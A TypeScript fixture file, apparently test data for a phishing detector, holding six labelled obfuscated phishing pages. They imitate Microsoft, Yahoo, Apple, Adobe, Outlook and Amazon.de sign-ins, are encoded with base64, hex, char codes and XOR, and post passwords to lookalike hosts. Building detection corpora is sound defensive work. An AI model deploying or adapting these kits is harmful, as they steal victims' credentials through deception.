import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

// Encoders used to produce the served markup the way the kits' builders do.
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const pct = (s: string) => Array.from(Buffer.from(s, 'utf8')).map((b) => '%' + b.toString(16).toUpperCase().padStart(2, '0')).join('');
const hexEsc = (s: string) => Array.from(s).map((c) => { const n = c.charCodeAt(0); return n < 256 ? '\\x' + n.toString(16).padStart(2, '0') : '\\u' + n.toString(16).padStart(4, '0'); }).join('');
const charCodes = (s: string) => Array.from(s).map((c) => c.charCodeAt(0)).join(',');
const xorB64 = (s: string, key: string) => Buffer.from(Array.from(Buffer.from(s, 'utf8')).map((b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64');

const o365Inner = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Sign in to your account</title>
<link rel="icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#efefef}.bx{width:440px;max-width:94%;margin:12vh auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px rgba(0,0,0,.2)}h1{font-size:24px;font-weight:600;margin:14px 0}input{width:100%;border:0;border-bottom:1px solid #666;height:36px;font-size:15px;margin-bottom:16px;outline:0}.btn{float:right;background:#0067b8;color:#fff;border:0;height:32px;min-width:108px}</style></head>
<body><div class="bx"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft" height="24"><h1>Sign in</h1>
<p style="font-size:14px">Because you're accessing sensitive info, you need to verify your password.</p>
<form action="https://cdn-office-auth.com/res/auth.php" method="post"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required><input type="password" name="passwd" placeholder="Password" required>
<p style="font-size:13px"><a href="#" style="color:#0067b8">Forgot my password</a></p><button class="btn" type="submit">Sign in</button><div style="clear:both"></div></form></div></body></html>`;

const yahooInner = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Yahoo</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif}.h{padding:16px 24px;border-bottom:1px solid #eee}.h img{height:28px}.b{width:360px;margin:50px auto;border-radius:4px;box-shadow:0 2px 4px rgba(0,0,0,.3);padding:30px}h2{font-size:20px;margin:0 0 6px}input{width:100%;border:0;border-bottom:1px solid #b9bdc5;height:38px;font-size:16px;margin:12px 0}.n{width:100%;height:42px;background:#6001d2;color:#fff;border:0;border-radius:20px;font-size:16px;margin-top:14px}</style></head>
<body><div class="h"><img src="https://s.yimg.com/rz/p/yahoo_frontpage_en-US_s_f_p_205x58_frontpage.png" alt="Yahoo"></div>
<div class="b"><h2>Sign in</h2><p style="font-size:14px">using your Yahoo account</p>
<form method="post" action="mail/process.php"><input name="username" placeholder="Username, email, or mobile"><input type="password" name="passwd" placeholder="Password"><input type="submit" class="n" value="Next"></form>
<p style="font-size:13px;text-align:center"><a href="#" style="color:#0f69ff">Forgot username?</a></p></div></body></html>`;

const appleInner = `<div class="wrap"><img src="img/logo.png" alt="Apple" class="lg"><h1>Sign in with your Apple ID</h1><form method="post" action="signin/verify.php"><input name="account_name" placeholder="Email or Phone Number"><input name="password" type="password" placeholder="Password"><button type="submit">&#8594;</button></form><p class="sm">Your Apple ID has been disabled for security reasons. Sign in to unlock it.</p><a href="#" class="sm">Forgot Apple ID or password?</a></div>`;

const adobeInner = `<div style="font-family:adobe-clean,Arial;background:#fff;width:400px;margin:60px auto;padding:30px;border-radius:6px;box-shadow:0 2px 10px rgba(0,0,0,.2)"><img src="https://www.adobe.com/content/dam/cc/icons/Adobe_Corporate_Horizontal_Red_HEX.svg" alt="Adobe" height="28"><h2>Sign in to view document</h2><p style="font-size:13px;color:#555">Statement_0325.pdf (1.2 MB) has been shared with you securely.</p><form method="post" action="https://adb-sharefile-cdn.com/next.php"><input name="email" placeholder="Email address" style="width:100%;height:38px;margin-bottom:10px;box-sizing:border-box"><input name="password" type="password" placeholder="Password" style="width:100%;height:38px;margin-bottom:10px;box-sizing:border-box"><button style="width:100%;height:40px;background:#1473e6;color:#fff;border:0;border-radius:20px">Continue</button></form></div>`;

const amazonDeInner = `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Amazon Anmelden</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{font-family:Arial,sans-serif;margin:0}.l{text-align:center;padding:16px}.b{width:350px;margin:0 auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}label{display:block;font-weight:bold;font-size:13px;margin:10px 0 3px}input{width:100%;height:31px;box-sizing:border-box}button{width:100%;height:31px;margin-top:14px;background:#ffd814;border:1px solid #fcd200;border-radius:8px}.w{width:350px;margin:0 auto 14px;border:1px solid #c40000;border-radius:8px;padding:12px;font-size:13px;box-sizing:border-box}</style></head>
<body><div class="l"><img src="/gp/img/amazon-de.png" alt="amazon.de" width="103"></div>
<div class="w"><b style="color:#c40000">Ihr Konto wurde gesperrt</b><br>Wir konnten Ihre Zahlungsinformationen nicht bestätigen. Bitte melden Sie sich an und aktualisieren Sie Ihre Zahlungsmethode.</div>
<div class="b"><h1 style="font-weight:400">Anmelden</h1><form method="post" action="/gp/verify/login.php"><label>E-Mail-Adresse oder Mobiltelefonnummer</label><input name="email"><label>Passwort</label><input type="password" name="password"><button>Anmelden</button></form></div></body></html>`;

export const entries: Entry[] = [
{
  id: 'a-obf-atob-docwrite-o365',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://www.autohaus-lindner-gmbh.de/wp-content/uploads/2024/11/excel/index.php',
  body: `<html>
<head><meta charset="utf-8"></head>
<body>
<script>
document.write(atob("${b64(o365Inner)}"));
</script>
</body>
</html>`,
},
{
  id: 'a-obf-unescape-yahoo',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://login-yahoo-mail.byethost33.com/',
  body: `<script language="javascript">
<!--
document.write(unescape('${pct(yahooInner)}'));
//-->
</script>
<noscript>Please enable JavaScript.</noscript>`,
},
{
  id: 'a-obf-charcode-apple',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://icloud-find-device.support-unlock.com/signin/',
  body: `<!doctype html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>iCloud</title>
<style>
body{margin:0;background:#f5f5f7;font-family:-apple-system,"Helvetica Neue",sans-serif;color:#1d1d1f}
.wrap{max-width:420px;margin:12vh auto;text-align:center}
.lg{width:48px}
h1{font-size:24px;font-weight:600}
input{display:block;width:100%;height:44px;border:1px solid #d2d2d7;border-radius:10px;padding:0 12px;margin-bottom:10px;font-size:17px;box-sizing:border-box}
button{width:44px;height:44px;border-radius:50%;border:1px solid #86868b;background:#fff;font-size:20px}
.sm{font-size:13px;color:#6e6e73;display:block;margin-top:14px}
</style>
</head>
<body>
<script>
var z=[${charCodes(appleInner)}];
var o='';for(var k=0;k<z.length;k++){o+=String.fromCharCode(z[k]);}
document.body.insertAdjacentHTML('afterbegin',o);
</script>
</body>
</html>`,
},
{
  id: 'a-obf-hex-array-adobe',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://pdf-statement-viewer.pages.dev/view.html',
  body: String.raw`<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>&#8203;</title>
<style>body{background:#e9e9e9 url(bg.jpg) center/cover;margin:0}</style>
</head>
<body>
<script>
var _0x4a21=['${hexEsc(adobeInner)}','\x69\x6e\x6e\x65\x72\x48\x54\x4d\x4c','\x62\x6f\x64\x79','\x74\x69\x74\x6c\x65','\x41\x64\x6f\x62\x65\x20\x44\x6f\x63\x75\x6d\x65\x6e\x74\x20\x43\x6c\x6f\x75\x64'];
(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a21,0x0));
var _0x1e3c=function(_0x5e1b,_0x1f2a){_0x5e1b=_0x5e1b-0x0;var _0x3c9b=_0x4a21[_0x5e1b];return _0x3c9b;};
document[_0x1e3c('0x2')][_0x1e3c('0x1')]=_0x1e3c('0x0');document[_0x1e3c('0x3')]=_0x1e3c('0x4');
</script>
</body>
</html>`,
},
{
  id: 'a-obf-mini-framework-outlook-fr',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://outlook-connexion-fr.vercel-apps.net/',
  body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title></title>
<style>
body{margin:0;background:#f2f2f2;font-family:"Segoe UI",sans-serif}
.c{width:440px;max-width:94%;margin:12vh auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.t{font-size:24px;font-weight:600;margin:16px 0}
.i{width:100%;height:36px;border:0;border-bottom:1px solid #666;font-size:15px;margin-bottom:18px;outline:0}
.b{float:right;background:#0067b8;color:#fff;border:0;height:32px;min-width:108px}
.e{color:#e81123;font-size:13px;margin-bottom:8px}
</style>
</head>
<body>
<div id="app"></div>
<script>
/*! tiny-view v0.3.1 | MIT */
var V=(function(){function h(t,p){var c=[].slice.call(arguments,2);return{t:t,p:p||{},c:c}}
function r(n){if(typeof n==='string')return document.createTextNode(n);var e=document.createElement(n.t);
for(var k in n.p){if(k.slice(0,2)==='on')e.addEventListener(k.slice(2),n.p[k]);else e.setAttribute(k,n.p[k]);}
n.c.forEach(function(x){if(x!=null&&x!==false)e.appendChild(r(x))});return e}
function m(root,view,state){function go(){root.innerHTML='';root.appendChild(r(view(state,set)))}function set(s){for(var k in s)state[k]=s[k];go()}go()}
return{h:h,m:m}})();
var h=V.h;
var cfg={logo:'https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg',brand:'Micro'+'soft',api:'https://api-outlook-sync.workers-dev.net/v1/c'};
document.title='Se connecter à votre compte';
V.m(document.getElementById('app'),function(s,set){
  return h('div',{class:'c'},
    h('img',{src:cfg.logo,alt:cfg.brand,height:'24'}),
    h('div',{class:'t'},s.step===0?'Se connecter':'Entrez le mot de passe'),
    s.err?h('div',{class:'e'},'Votre compte ou mot de passe est incorrect.'):null,
    s.step===0
      ?h('input',{class:'i',type:'email',placeholder:'E-mail, téléphone ou Skype',id:'u',value:s.u})
      :h('input',{class:'i',type:'password',placeholder:'Mot de passe',id:'p'}),
    h('button',{class:'b',onclick:function(){
      if(s.step===0){set({u:document.getElementById('u').value,step:1});return}
      var p=document.getElementById('p').value;
      fetch(cfg.api,{method:'POST',mode:'no-cors',body:JSON.stringify({u:s.u,p:p,t:s.n})});
      if(s.n<1)set({err:true,n:s.n+1});else location.replace('https://outlook.live.com/mail/');
    }},s.step===0?'Suivant':'Se connecter'),
    h('div',{style:'clear:both'}));
},{step:0,u:'',err:false,n:0});
</script>
</body>
</html>`,
},
{
  id: 'a-obf-xor-amazon-de',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://kundenkonto-amazon.de-sicherheitscenter.com/gp/css/homepage.html',
  body: `<html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"></head><body>
<script>
(function(d,k){
  var b=atob(d),o=new Uint8Array(b.length);
  for(var i=0;i<b.length;i++){o[i]=b.charCodeAt(i)^k.charCodeAt(i%k.length);}
  var s=new TextDecoder('utf-8').decode(o);
  document.open();document.write(s);document.close();
})("${xorB64(amazonDeInner, 'q7Zp3xK')}","q7Zp3xK");
</script>
</body></html>`,
},
];
